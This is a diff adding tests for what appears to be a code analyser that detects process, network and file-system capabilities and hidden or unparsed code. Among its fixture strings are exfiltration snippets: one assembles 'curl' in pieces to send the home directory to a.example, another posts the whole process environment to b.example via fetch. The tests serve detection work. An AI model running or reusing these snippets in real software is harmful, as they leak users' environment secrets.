@@ -218,3 +218,31 @@ test("no mutation of source makes the analysis fail, and the same source gives t
     if (round % 100 === 0) assert.equal(JSON.stringify(read(source)), first);
   }
 });
+
+test("what was read before changes nothing of what a source shows, though trees hand their columns on", () => {
+  const sources = [
+    `const { exec: run } = require("child_process"); const tool = "cu" + "rl"; run(tool + " https://a.example/" + process.env.HOME)`,
+    `let send = fetch; function up(data) { send("https://b.example", { body: data }) } up(JSON.stringify(process.env))`,
+    `${"(".repeat(5_000)}require("fs")`,
+    `a = {;;; require("net").connect(1)`,
+    Array.from({ length: 3_000 }, (_, i) => `function f${i}(a) { return a.b${i}(${i}) || "text ${i}" }`).join("\n"),
+    `export const read = (name) => import("node:fs").then((fs) => fs.readFileSync(name))`,
+    "",
+  ];
+  const alone = sources.map((source) => JSON.stringify(read(source)));
+  let state = 1;
+  for (let step = 0; step < 60; step++) {
+    state = (state * 48_271) % 2_147_483_647;
+    const at = state % sources.length;
+    assert.equal(JSON.stringify(read(sources[at] ?? "")), alone[at], `source ${at} in step ${step}`);
+  }
+});
+
+test("a source that is larger than a tree may be is read as tokens, and that is said", () => {
+  const source = `require("child_process").exec("id");\n${"a+".repeat(600_000)}a`;
+  const reading = read(source);
+  assert.equal(reading.depth, "tokens");
+  assert.match(reading.because, /more than \d+ parts/);
+  assert.ok(reading.hidings.some(({ kind }) => kind === "unparsed"));
+  assert.ok(reading.sightings.some(({ capability }) => capability === "process"));
+});
